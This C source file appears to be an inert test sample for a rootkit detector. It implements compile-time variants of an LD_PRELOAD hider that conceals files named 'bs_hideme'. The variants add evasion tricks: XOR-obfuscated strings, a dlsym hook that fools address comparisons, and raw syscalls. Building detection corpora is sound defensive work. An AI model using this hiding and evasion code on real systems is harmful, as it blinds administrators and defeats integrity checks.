/*
 * Backsight corpus sample: preload/hider-*  (INERT - compiled only, never loaded)
 *
 * The variants of a userland (LD_PRELOAD / ld.so.preload) directory hider that public
 * write-ups and kits show, written here from the description of the technique. One source,
 * configured at compile time (Corpus/samples.py names each configuration):
 *
 *   BS_FETCH   how the hooks reach libc's originals
 *     1 dlsym(RTLD_NEXT, name)
 *     2 dlvsym(RTLD_NEXT, name, "<the architecture's base GLIBC version>")
 *     3 dlopen("libc.so.6") then dlsym(handle, name)
 *     4 dlopen("/lib/<triple>/libc.so.6") (a full path) then dlsym(handle, name)
 *     5 dlvsym(RTLD_NEXT, name, v) for every "GLIBC_2.<n>" / "GLIBC_2.<n>.<m>" until one answers
 *     6 no lookup: opendir/readdir/closedir reimplemented on libc's syscall() (getdents64)
 *     7 no lookup and no libc call: the same with inline system-call instructions
 *   BS_MINIMAL     export only readdir and readdir64 (else also fopen, stat, lstat, access, unlink)
 *   BS_CTOR        fetch the originals from a constructor (else lazily, on first use)
 *   BS_STRINGS     0 plain literals, 1 one-byte XOR (key 0x5a), 2 assembled byte by byte at run time
 *   BS_HOOK_DLSYM  also export dlsym, answering lookups of its own hooks with the hooks (so a
 *                  checker comparing dlsym(RTLD_NEXT) with libc's answer sees nothing); the real
 *                  dlsym comes from dlvsym
 *
 * Hides directory entries (and, in the full set, paths) whose name contains "bs_hideme".
 */
#define _GNU_SOURCE
#include "bs_api.h"
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <stddef.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef BS_FETCH
#define BS_FETCH 1
#endif
#ifndef BS_STRINGS
#define BS_STRINGS 0
#endif

/* ---- strings: each is a list of characters, so it can be emitted three ways ---------- */

#define C_HIDE 'b', 's', '_', 'h', 'i', 'd', 'e', 'm', 'e'
#define C_READDIR 'r', 'e', 'a', 'd', 'd', 'i', 'r'
#define C_READDIR64 'r', 'e', 'a', 'd', 'd', 'i', 'r', '6', '4'
#define C_FOPEN 'f', 'o', 'p', 'e', 'n'
#define C_STAT 's', 't', 'a', 't'
#define C_LSTAT 'l', 's', 't', 'a', 't'
#define C_ACCESS 'a', 'c', 'c', 'e', 's', 's'
#define C_UNLINK 'u', 'n', 'l', 'i', 'n', 'k'
#define C_DLSYM 'd', 'l', 's', 'y', 'm'
#define C_LIBC 'l', 'i', 'b', 'c', '.', 's', 'o', '.', '6'
#define C_GLIBC2 'G', 'L', 'I', 'B', 'C', '_', '2', '.'
#define C_GLIBC234 'G', 'L', 'I', 'B', 'C', '_', '2', '.', '3', '4'
#if defined(__x86_64__)
#define C_LIBCPATH '/', 'l', 'i', 'b', '/', 'x', '8', '6', '_', '6', '4', '-', 'l', 'i', 'n', 'u', 'x', \
	'-', 'g', 'n', 'u', '/', 'l', 'i', 'b', 'c', '.', 's', 'o', '.', '6'
#define C_BASEVER 'G', 'L', 'I', 'B', 'C', '_', '2', '.', '2', '.', '5'
#elif defined(__aarch64__)
#define C_LIBCPATH '/', 'l', 'i', 'b', '/', 'a', 'a', 'r', 'c', 'h', '6', '4', '-', 'l', 'i', 'n', 'u', \
	'x', '-', 'g', 'n', 'u', '/', 'l', 'i', 'b', 'c', '.', 's', 'o', '.', '6'
#define C_BASEVER 'G', 'L', 'I', 'B', 'C', '_', '2', '.', '1', '7'
#elif defined(__arm__)
#define C_LIBCPATH '/', 'l', 'i', 'b', '/', 'a', 'r', 'm', '-', 'l', 'i', 'n', 'u', 'x', '-', 'g', 'n', \
	'u', 'e', 'a', 'b', 'i', 'h', 'f', '/', 'l', 'i', 'b', 'c', '.', 's', 'o', '.', '6'
#define C_BASEVER 'G', 'L', 'I', 'B', 'C', '_', '2', '.', '4'
#else
#define C_LIBCPATH '/', 'l', 'i', 'b', '/', 'l', 'i', 'b', 'c', '.', 's', 'o', '.', '6'
#define C_BASEVER 'G', 'L', 'I', 'B', 'C', '_', '2', '.', '0'
#endif

/* Apply M to each of up to 36 arguments. */
#define BS_N(...) BS_N_(__VA_ARGS__, 36, 35, 34, 33, 32, 31, 30, 29, 28, 27, 26, 25, 24, 23, 22, 21, \
	20, 19, 18, 17, 16, 15, 14, 13, 12, 11, 10, 9, 8, 7, 6, 5, 4, 3, 2, 1)
#define BS_N_(a1, a2, a3, a4, a5, a6, a7, a8, a9, a10, a11, a12, a13, a14, a15, a16, a17, a18, a19, \
	a20, a21, a22, a23, a24, a25, a26, a27, a28, a29, a30, a31, a32, a33, a34, a35, a36, n, ...) n
#define BS_CAT(a, b) BS_CAT_(a, b)
#define BS_CAT_(a, b) a##b
#define BS_MAP(M, ...) BS_CAT(BS_MAP, BS_N(__VA_ARGS__))(M, __VA_ARGS__)
#define BS_MAP1(M, x) M(x)
#define BS_MAP2(M, x, ...) M(x) BS_MAP1(M, __VA_ARGS__)
#define BS_MAP3(M, x, ...) M(x) BS_MAP2(M, __VA_ARGS__)
#define BS_MAP4(M, x, ...) M(x) BS_MAP3(M, __VA_ARGS__)
#define BS_MAP5(M, x, ...) M(x) BS_MAP4(M, __VA_ARGS__)
#define BS_MAP6(M, x, ...) M(x) BS_MAP5(M, __VA_ARGS__)
#define BS_MAP7(M, x, ...) M(x) BS_MAP6(M, __VA_ARGS__)
#define BS_MAP8(M, x, ...) M(x) BS_MAP7(M, __VA_ARGS__)
#define BS_MAP9(M, x, ...) M(x) BS_MAP8(M, __VA_ARGS__)
#define BS_MAP10(M, x, ...) M(x) BS_MAP9(M, __VA_ARGS__)
#define BS_MAP11(M, x, ...) M(x) BS_MAP10(M, __VA_ARGS__)
#define BS_MAP12(M, x, ...) M(x) BS_MAP11(M, __VA_ARGS__)
#define BS_MAP13(M, x, ...) M(x) BS_MAP12(M, __VA_ARGS__)
#define BS_MAP14(M, x, ...) M(x) BS_MAP13(M, __VA_ARGS__)
#define BS_MAP15(M, x, ...) M(x) BS_MAP14(M, __VA_ARGS__)
#define BS_MAP16(M, x, ...) M(x) BS_MAP15(M, __VA_ARGS__)
#define BS_MAP17(M, x, ...) M(x) BS_MAP16(M, __VA_ARGS__)
#define BS_MAP18(M, x, ...) M(x) BS_MAP17(M, __VA_ARGS__)
#define BS_MAP19(M, x, ...) M(x) BS_MAP18(M, __VA_ARGS__)
#define BS_MAP20(M, x, ...) M(x) BS_MAP19(M, __VA_ARGS__)
#define BS_MAP21(M, x, ...) M(x) BS_MAP20(M, __VA_ARGS__)
#define BS_MAP22(M, x, ...) M(x) BS_MAP21(M, __VA_ARGS__)
#define BS_MAP23(M, x, ...) M(x) BS_MAP22(M, __VA_ARGS__)
#define BS_MAP24(M, x, ...) M(x) BS_MAP23(M, __VA_ARGS__)
#define BS_MAP25(M, x, ...) M(x) BS_MAP24(M, __VA_ARGS__)
#define BS_MAP26(M, x, ...) M(x) BS_MAP25(M, __VA_ARGS__)
#define BS_MAP27(M, x, ...) M(x) BS_MAP26(M, __VA_ARGS__)
#define BS_MAP28(M, x, ...) M(x) BS_MAP27(M, __VA_ARGS__)
#define BS_MAP29(M, x, ...) M(x) BS_MAP28(M, __VA_ARGS__)
#define BS_MAP30(M, x, ...) M(x) BS_MAP29(M, __VA_ARGS__)
#define BS_MAP31(M, x, ...) M(x) BS_MAP30(M, __VA_ARGS__)
#define BS_MAP32(M, x, ...) M(x) BS_MAP31(M, __VA_ARGS__)
#define BS_MAP33(M, x, ...) M(x) BS_MAP32(M, __VA_ARGS__)
#define BS_MAP34(M, x, ...) M(x) BS_MAP33(M, __VA_ARGS__)
#define BS_MAP35(M, x, ...) M(x) BS_MAP34(M, __VA_ARGS__)
#define BS_MAP36(M, x, ...) M(x) BS_MAP35(M, __VA_ARGS__)

#define BS_KEY 0x5a
#define BS_PLAIN(c) (c),
#define BS_XOR(c) (unsigned char)((c) ^ BS_KEY),
#define BS_PUT(c) *bs_p++ = (c);

/*
 * DECLARE_STR(name, chars) and STR(name, buf): `buf` must be a local char array large
 * enough for the string; STR yields a const char * valid while `buf` lives.
 */
#if BS_STRINGS == 0
#define DECLARE_STR(name, ...) static const char name[] = {BS_MAP(BS_PLAIN, __VA_ARGS__) 0};
#define STR(name, buf) ((void)(buf), name)
#elif BS_STRINGS == 1
#define DECLARE_STR(name, ...) static const unsigned char name[] = {BS_MAP(BS_XOR, __VA_ARGS__)};
__attribute__((noinline)) static const char *unxor(const unsigned char *enc, size_t n, char *out)
{
	for (size_t i = 0; i < n; i++)
		out[i] = (char)(enc[i] ^ BS_KEY);
	out[n] = 0;
	return out;
}
#define STR(name, buf) unxor(name, sizeof name, (buf))
#else
#define DECLARE_STR(name, ...) \
	__attribute__((noinline)) static const char *name(char *out) \
	{ \
		volatile char *bs_p = out; \
		BS_MAP(BS_PUT, __VA_ARGS__) \
		*bs_p = 0; \
		return out; \
	}
#define STR(name, buf) name(buf)
#endif

DECLARE_STR(s_hide, C_HIDE)
#if BS_FETCH <= 5
DECLARE_STR(s_readdir, C_READDIR)
DECLARE_STR(s_readdir64, C_READDIR64)
#endif
#if BS_FETCH <= 5 && !defined(BS_MINIMAL)
DECLARE_STR(s_fopen, C_FOPEN)
DECLARE_STR(s_stat, C_STAT)
DECLARE_STR(s_lstat, C_LSTAT)
DECLARE_STR(s_access, C_ACCESS)
DECLARE_STR(s_unlink, C_UNLINK)
#endif
#if BS_FETCH == 3
DECLARE_STR(s_libc, C_LIBC)
#elif BS_FETCH == 4
DECLARE_STR(s_libc, C_LIBCPATH)
#endif
#if BS_FETCH == 2 || defined(BS_HOOK_DLSYM)
DECLARE_STR(s_basever, C_BASEVER)
#endif
#if BS_FETCH == 5
DECLARE_STR(s_glibc2, C_GLIBC2)
#endif
#ifdef BS_HOOK_DLSYM
DECLARE_STR(s_dlsym, C_DLSYM)
DECLARE_STR(s_glibc234, C_GLIBC234)
#endif

/* No libc string functions: the raw-syscall build calls nothing in libc. */
static int contains(const char *s, const char *needle)
{
	for (; *s; s++) {
		size_t i = 0;
		while (needle[i] && s[i] == needle[i])
			i++;
		if (!needle[i])
			return 1;
	}
	return 0;
}

#ifdef BS_HOOK_DLSYM
static int same(const char *a, const char *b)
{
	while (*a && *a == *b) {
		a++;
		b++;
	}
	return *a == *b;
}
#endif

static int hidden(const char *name)
{
	char buf[16];
	return name && contains(name, STR(s_hide, buf));
}

#if BS_FETCH <= 5
/* ---- fetching the originals ------------------------------------------------------ */

#ifdef BS_HOOK_DLSYM
static void *(*real_dlsym)(void *, const char *);

static void find_real_dlsym(void)
{
	char name[8], ver[16];
	if (real_dlsym)
		return;
	*(void **)&real_dlsym = dlvsym(RTLD_NEXT, STR(s_dlsym, name), STR(s_glibc234, ver));
	if (!real_dlsym)
		*(void **)&real_dlsym = dlvsym(RTLD_NEXT, STR(s_dlsym, name), STR(s_basever, ver));
}
#define LOOKUP(handle, name) (find_real_dlsym(), real_dlsym ? real_dlsym((handle), (name)) : NULL)
#else
#define LOOKUP(handle, name) dlsym((handle), (name))
#endif

#if BS_FETCH == 3 || BS_FETCH == 4
static void *libc_handle;
#endif

__attribute__((noinline)) static void *original(const char *name)
{
#if BS_FETCH == 1
	return LOOKUP(RTLD_NEXT, name);
#elif BS_FETCH == 2
	char ver[16];
	return dlvsym(RTLD_NEXT, name, STR(s_basever, ver));
#elif BS_FETCH == 3 || BS_FETCH == 4
	char path[40];
	if (!libc_handle)
		libc_handle = dlopen(STR(s_libc, path), RTLD_LAZY | RTLD_NOLOAD);
	if (!libc_handle)
		libc_handle = dlopen(STR(s_libc, path), RTLD_LAZY);
	return libc_handle ? LOOKUP(libc_handle, name) : NULL;
#elif BS_FETCH == 5
	char prefix[16], ver[24];
	STR(s_glibc2, prefix);
	for (int minor = 0; minor <= 40; minor++) {
		for (int patch = -1; patch <= 6; patch++) {
			if (patch < 0)
				snprintf(ver, sizeof ver, "%s%d", prefix, minor);
			else
				snprintf(ver, sizeof ver, "%s%d.%d", prefix, minor, patch);
			void *found = dlvsym(RTLD_NEXT, name, ver);
			if (found)
				return found;
		}
	}
	return NULL;
#endif
}

static struct dirent *(*real_readdir)(DIR *);
static struct dirent64 *(*real_readdir64)(DIR *);
#ifndef BS_MINIMAL
static FILE *(*real_fopen)(const char *, const char *);
static int (*real_stat)(const char *, struct stat *);
static int (*real_lstat)(const char *, struct stat *);
static int (*real_access)(const char *, int);
static int (*real_unlink)(const char *);
#endif

static void fetch_all(void)
{
	char b[16];
	if (!real_readdir)
		*(void **)&real_readdir = original(STR(s_readdir, b));
	if (!real_readdir64)
		*(void **)&real_readdir64 = original(STR(s_readdir64, b));
#ifndef BS_MINIMAL
	if (!real_fopen)
		*(void **)&real_fopen = original(STR(s_fopen, b));
	if (!real_stat)
		*(void **)&real_stat = original(STR(s_stat, b));
	if (!real_lstat)
		*(void **)&real_lstat = original(STR(s_lstat, b));
	if (!real_access)
		*(void **)&real_access = original(STR(s_access, b));
	if (!real_unlink)
		*(void **)&real_unlink = original(STR(s_unlink, b));
#endif
}

#ifdef BS_CTOR
__attribute__((constructor)) static void hider_init(void)
{
	fetch_all();
}
#define ENSURE(var) ((void)0)
#else
#define ENSURE(var) do { if (!(var)) fetch_all(); } while (0)
#endif

BS_API struct dirent *readdir(DIR *dirp)
{
	struct dirent *entry;
	ENSURE(real_readdir);
	if (!real_readdir)
		return NULL;
	do
		entry = real_readdir(dirp);
	while (entry && hidden(entry->d_name));
	return entry;
}

BS_API struct dirent64 *readdir64(DIR *dirp)
{
	struct dirent64 *entry;
	ENSURE(real_readdir64);
	if (!real_readdir64)
		return NULL;
	do
		entry = real_readdir64(dirp);
	while (entry && hidden(entry->d_name));
	return entry;
}

#ifndef BS_MINIMAL
BS_API FILE *fopen(const char *path, const char *mode)
{
	ENSURE(real_fopen);
	if (hidden(path) || !real_fopen) {
		errno = ENOENT;
		return NULL;
	}
	return real_fopen(path, mode);
}

#define PATH_HOOK(fn, real, params, args) \
	BS_API int fn params \
	{ \
		ENSURE(real); \
		if (hidden(path) || !real) { \
			errno = ENOENT; \
			return -1; \
		} \
		return real args; \
	}
PATH_HOOK(stat, real_stat, (const char *restrict path, struct stat *restrict st), (path, st))
PATH_HOOK(lstat, real_lstat, (const char *restrict path, struct stat *restrict st), (path, st))
PATH_HOOK(access, real_access, (const char *path, int mode), (path, mode))
PATH_HOOK(unlink, real_unlink, (const char *path), (path))
#endif

#ifdef BS_HOOK_DLSYM
/* Lookups of the hooked names get the hooks, whatever the handle: RTLD_NEXT comparisons and
 * dlopen("libc.so.6") comparisons both see the same address. */
BS_API void *dlsym(void *handle, const char *name)
{
	char b[16];
	if (same(name, STR(s_readdir, b)))
		return (void *)readdir;
	if (same(name, STR(s_readdir64, b)))
		return (void *)readdir64;
	find_real_dlsym();
	return real_dlsym ? real_dlsym(handle, name) : NULL;
}
#endif

#else
/* ---- no lookup: directory listing rebuilt on the getdents64 system call ------------- */

#if BS_FETCH == 6
#define SYS3(n, a, b, c) syscall((n), (a), (b), (c))
#else
/* Inline system calls: no libc function is called for listing at all. */
static long raw3(long n, long a, long b, long c)
{
#if defined(__x86_64__)
	long ret;
	__asm__ volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return ret;
#elif defined(__aarch64__)
	register long x8 __asm__("x8") = n;
	register long x0 __asm__("x0") = a;
	register long x1 __asm__("x1") = b;
	register long x2 __asm__("x2") = c;
	__asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
	return x0;
#elif defined(__arm__)
	/* r7 carries the number but is also the Thumb frame pointer: save it around the call. */
	register long r0 __asm__("r0") = a;
	register long r1 __asm__("r1") = b;
	register long r2 __asm__("r2") = c;
	__asm__ volatile("push {r7}\n\tmov r7, %[nr]\n\tsvc 0\n\tpop {r7}"
			 : "+r"(r0) : [nr] "r"(n), "r"(r1), "r"(r2) : "memory");
	return r0;
#elif defined(__mips__)
	register long v0 __asm__("$2") = n;
	register long a0 __asm__("$4") = a;
	register long a1 __asm__("$5") = b;
	register long a2 __asm__("$6") = c;
	register long a3 __asm__("$7");
	__asm__ volatile("syscall" : "+r"(v0), "=r"(a3) : "r"(a0), "r"(a1), "r"(a2)
			 : "$1", "$3", "$8", "$9", "$10", "$11", "$12", "$13", "$14", "$15", "$24", "$25",
			   "hi", "lo", "memory");
	return a3 ? -v0 : v0;
#endif
}
#define SYS3(n, a, b, c) raw3((n), (long)(a), (long)(b), (long)(c))
#endif

#ifndef SYS_getdents64
#define SYS_getdents64 __NR_getdents64
#endif

struct hider_dir {
	int fd;
	int used, size, pos;
	char buf[2048];
};

static struct hider_dir dirs[8];

BS_API DIR *opendir(const char *path)
{
	long fd = SYS3(SYS_openat, AT_FDCWD, path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0)
		return NULL;
	for (int i = 0; i < 8; i++) {
		if (!dirs[i].used) {
			dirs[i].used = 1;
			dirs[i].fd = (int)fd;
			dirs[i].size = dirs[i].pos = 0;
			return (DIR *)&dirs[i];
		}
	}
	SYS3(SYS_close, fd, 0, 0);
	return NULL;
}

BS_API int closedir(DIR *dirp)
{
	struct hider_dir *d = (struct hider_dir *)dirp;
	d->used = 0;
	return (int)SYS3(SYS_close, d->fd, 0, 0);
}

BS_API struct dirent64 *readdir64(DIR *dirp)
{
	struct hider_dir *d = (struct hider_dir *)dirp;
	for (;;) {
		if (d->pos >= d->size) {
			long n = SYS3(SYS_getdents64, d->fd, d->buf, sizeof d->buf);
			if (n <= 0)
				return NULL;
			d->size = (int)n;
			d->pos = 0;
		}
		struct dirent64 *entry = (struct dirent64 *)(d->buf + d->pos);
		d->pos += entry->d_reclen;
		if (!hidden(entry->d_name))
			return entry;
	}
}

BS_API struct dirent *readdir(DIR *dirp)
{
	return (struct dirent *)readdir64(dirp);
}
#endif
